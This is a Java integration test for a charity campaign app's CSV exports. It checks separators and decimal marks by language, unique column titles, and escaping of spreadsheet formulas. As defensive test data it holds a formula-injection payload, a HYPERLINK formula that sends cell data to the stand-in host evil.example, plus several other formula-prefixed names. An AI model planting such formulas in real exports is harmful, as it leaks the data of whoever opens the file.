package az.asan.mektub.report;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.HashSet;
import java.util.List;
import java.util.Set;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import az.asan.mektub.CampaignTestBase;
import az.asan.mektub.IntegrationTest;
import az.asan.mektub.RemovesPeople;
import az.asan.mektub.TestLetters.Spec;
import az.asan.mektub.TestPeople;
import az.asan.mektub.account.Role;
import az.asan.mektub.letter.LetterStatus;
import az.asan.mektub.web.Visitor;
import az.asan.mektub.web.Visitor.Page;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Exports open well in the reader's spreadsheet program: {@code ;} and a decimal comma in Azerbaijani
 * and Russian, {@code ,} and a decimal point in English, a byte order mark, unique column titles, and
 * no cell that a spreadsheet would run as a formula.
 */
@IntegrationTest
@RemovesPeople("%@exports.test")
class ExportsIntegrationTest extends CampaignTestBase {

	static final String FORMULA = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"x\")";

	@Test
	void theSeparatorAndTheDecimalMarkFollowTheLanguageOfThePage() {
		// a rate that is not whole: 1 fulfilled of 3
		for (LetterStatus status : List.of(LetterStatus.FULFILLED, LetterStatus.PUBLISHED, LetterStatus.PUBLISHED)) {
			String code = testLetters.published(campaign, Spec.of("Uşaq", 8).region("AZ-GA"));
			if (status != LetterStatus.PUBLISHED) {
				testLetters.moveTo(code, status, donor1());
			}
		}
		String path = "/reports/regions.csv?campaign=" + campaign;

		String az = csv(staff("az"), path);
		assertThat(az).startsWith("\uFEFFRegion;İqtisadi rayon;");
		assertThat(row(az, ';', "Gəncə").get(9)).isEqualTo("33,3");

		String ru = csv(staff("ru"), path);
		assertThat(ru).startsWith("\uFEFFРегион;Экономический район;");
		assertThat(row(ru, ';', "Гянджа").get(9)).isEqualTo("33,3");

		String en = csv(staff("en"), path);
		assertThat(en).startsWith("\uFEFFRegion,Economic region,");
		assertThat(row(en, ',', "Ganja").get(9)).isEqualTo("33.3");
	}

	@Test
	void everyExportHasUniqueColumnTitlesInEveryLanguage() {
		for (String lang : List.of("az", "en", "ru")) {
			Visitor staff = staff(lang);
			for (String path : List.of("/reports/regions.csv", "/reports/regions.csv?group=economic", "/reports/years.csv",
					"/reports/forgotten.csv", "/reports/duplicates.csv", "/reports/donors.csv")) {
				String csv = csv(staff, path);
				List<String> headers = records(csv, lang.equals("en") ? ',' : ';').get(0).toList();
				assertThat(new HashSet<>(headers)).as(lang + " " + path + " " + headers).hasSize(headers.size());
			}
		}
	}

	@Test
	void namesThatLookLikeFormulasAreWrittenAsTextInEveryExport() {
		// given: a donor whose name is a formula, and children whose names start with + - @
		accounts.create("formula@exports.test", "parol-12345", FORMULA, Role.DONOR, Set.of());
		long formulaDonor = TestPeople.id(jdbc, "formula@exports.test");
		String fulfilled = testLetters.published(campaign, Spec.of("@SUM(A1)", 8));
		testLetters.moveTo(fulfilled, LetterStatus.FULFILLED, formulaDonor);
		testLetters.published(campaign, Spec.of("+Cmd", 7).privately("-Eyni", java.time.LocalDate.of(2019, 1, 2), "x"));
		testLetters.published(campaign, Spec.of("+Cmd", 7).privately("-Eyni", java.time.LocalDate.of(2019, 1, 2), "x"));
		String forgotten = testLetters.published(campaign, Spec.of("=1+1", 9));
		jdbc.sql("UPDATE letter SET published_at = now() - interval '200 days' WHERE code = ?").param(forgotten).update();

		Visitor admin = Visitor.signedIn(mvc, users.loadUserByUsername("admin@demo.az"));
		for (String path : List.of("/reports/donors.csv?campaign=" + campaign, "/reports/duplicates.csv?campaign=" + campaign,
				"/reports/forgotten.csv")) {
			List<CSVRecord> records = records(csv(admin, path), ';');
			for (CSVRecord record : records) {
				for (String cell : record) {
					assertThat(cell).as(path + " " + record).doesNotStartWith("=").doesNotStartWith("+")
						.doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
					if (cell.startsWith("-")) {
						assertThat(cell).as("only numbers may start with a minus").matches("-[0-9,]+");
					}
				}
			}
		}
		assertThat(csv(admin, "/reports/donors.csv?campaign=" + campaign)).contains("'" + FORMULA.replace("\"", "\"\""));
		assertThat(csv(admin, "/reports/duplicates.csv?campaign=" + campaign)).contains("'+Cmd").contains("'-Eyni");
		assertThat(csv(admin, "/reports/forgotten.csv")).contains("'=1+1");
	}

	private Visitor staff(String lang) {
		return Visitor.signedIn(mvc, users.loadUserByUsername("staff@demo.az")).speaking(lang);
	}

	private long donor1() {
		return TestPeople.id(jdbc, "donor1@example.az");
	}

	private static String csv(Visitor visitor, String path) {
		Page page = visitor.open(path);
		assertThat(page.status()).as(path).isEqualTo(200);
		assertThat(page.result().getResponse().getContentType()).startsWith("text/csv");
		return new String(page.result().getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
	}

	private static List<CSVRecord> records(String csv, char delimiter) {
		try {
			return CSVFormat.DEFAULT.builder()
				.setDelimiter(delimiter)
				.get()
				.parse(new StringReader(csv.substring(1)))
				.getRecords();
		}
		catch (java.io.IOException ex) {
			throw new IllegalStateException(ex);
		}
	}

	private static List<String> row(String csv, char delimiter, String first) {
		return records(csv, delimiter).stream()
			.filter(r -> r.get(0).equals(first))
			.findFirst()
			.orElseThrow(() -> new AssertionError("no row " + first))
			.toList();
	}

}
